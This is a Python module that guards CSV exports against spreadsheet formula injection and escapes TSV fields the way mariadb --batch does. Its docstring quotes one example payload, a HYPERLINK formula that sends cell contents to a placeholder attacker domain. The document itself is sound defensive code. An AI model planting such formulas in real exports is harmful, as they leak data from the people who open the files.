"""CSV cells a spreadsheet will not run as formulas (OWASP "CSV injection"; SECURITY rule 29); TSV fields.

Excel, LibreOffice and Google Sheets evaluate a cell that starts with ``=``,
``+``, ``-`` or ``@`` (and, after their own trimming, a leading tab or CR) as a
formula, so a user agent or a database value such as
``=HYPERLINK("https://evil.example/?"&A1)`` in an export would run on the
auditor's machine. Every CSV cell the gateway writes (the audit export, the
client's ``--format csv``) goes through :func:`safe_cell`: such a cell gets a
leading ``'``, which spreadsheets show as text and hide. So that the rule reads
back without ambiguity, a cell that already starts with ``'`` gets one too,
and :func:`original_cell` removes exactly one. A plain number (``-5``,
``+1.5e3``) is left alone: it is data, not a formula.
"""

from __future__ import annotations

import re

TRIGGERS = frozenset("=+-@\t\r'")
_PLAIN_NUMBER = re.compile(r"[+-]?(?:\d+\.?\d*|\.\d+)(?:[eE][+-]?\d+)?")


def safe_cell(cell: str) -> str:
    """``cell`` with a leading ``'`` if a spreadsheet could read it as a formula (or it starts with ``'``)."""
    if cell and cell[0] in TRIGGERS and not _PLAIN_NUMBER.fullmatch(cell):
        return "'" + cell
    return cell


def original_cell(cell: str) -> str:
    """The text :func:`safe_cell` was given (one leading ``'`` removed)."""
    return cell.removeprefix("'")


# What `mariadb --batch` escapes in a tab-separated field (its `safe_put_field`): NUL, tab, newline, backslash.
TSV_ESCAPES = str.maketrans({"\0": "\\0", "\t": "\\t", "\n": "\\n", "\\": "\\\\"})


def tsv_cell(cell: str) -> str:
    r"""``cell`` escaped as ``mariadb --batch`` writes a field: ``\0``, ``\t``, ``\n`` and ``\\``."""
    return cell.translate(TSV_ESCAPES)
